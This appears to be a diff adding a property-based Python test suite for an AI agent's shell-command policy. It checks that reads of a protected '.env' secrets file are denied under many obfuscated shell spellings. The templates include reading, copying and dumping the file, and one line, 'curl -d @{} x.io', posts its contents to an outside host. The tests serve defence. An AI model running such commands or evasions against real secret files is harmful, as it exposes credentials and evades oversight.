@@ -1,0 +1,52 @@
+"""Spellings of one protected file that a shell takes for the same, put together at random."""
+
+from __future__ import annotations
+
+import string
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from ralph.core.messages import ToolCall
+from ralph.policy.categories import stand_in
+from ralph.policy.mentions import pieces
+from ralph.policy.rules import Rules
+
+POLICY = Rules(cwd="/nowhere/work", home="/nowhere/h/.local/ralph", tilde="/nowhere/h")
+
+
+def verdict(command: str) -> str:
+    return POLICY.judge(ToolCall("1", "shell", {"command": command}), stand_in("shell")).verdict
+
+
+_LETTER = st.sampled_from(
+    ["{0}", "'{0}'", '"{0}"', "\\{0}", "''{0}", '{0}""', "[{0}]", "?", "[{0}x]", "{{{0},{0}}}", "$'{0}'"]
+)
+_DIRECTORY = st.sampled_from(["", "./", "sub/../", ".//", "$PWD/", "${PWD}/", "/proc/self/cwd/", "'./'", "~/../work/"])
+_AROUND = st.sampled_from([
+    "cat {}", "cat < {}", "head -n1 -- {}", "cp {} /tmp/x", "echo x > {}", "true; cat {}", "x=$(cat {})", "ls && nl {}",
+    "sudo cat {}", "bash -c 'true'; cat {}", "cat a {} b", "tar cf x.tar --files {}", "dd if={}", "curl -d @{} x.io",
+])  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(_LETTER, min_size=3, max_size=3), st.sampled_from([".", "'.'", "\\.", '"."']), _DIRECTORY, _AROUND)
+def test_no_spelling_gets_through(letters: list[str], dot: str, directory: str, around: str) -> None:
+    word = dot + "".join(letter.format(char) for letter, char in zip(letters, "env", strict=True))
+    assert verdict(around.format(directory + word)) == "deny", around.format(directory + word)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(alphabet=string.ascii_lowercase + "._-/", min_size=1, max_size=12), _AROUND)
+def test_other_names_are_left_alone(name: str, around: str) -> None:
+    if ".env" not in name and "ralph" not in name:
+        assert verdict(around.format(f"./{name}")) != "deny" or "/.." in f"/{name}"
+
+
+def test_pieces_of_a_word() -> None:
+    assert ".env" in set(pieces("--env-file=.env"))
+    assert ".env" in set(pieces("file=@.env"))
+    assert ".env" in set(pieces("host:.env"))
+    assert ".env" in set(pieces("-f.env"))
+    assert "/w/.env" in set(pieces("file:///w/.env"))
+    assert list(pieces("https://example.com/.env")) == []
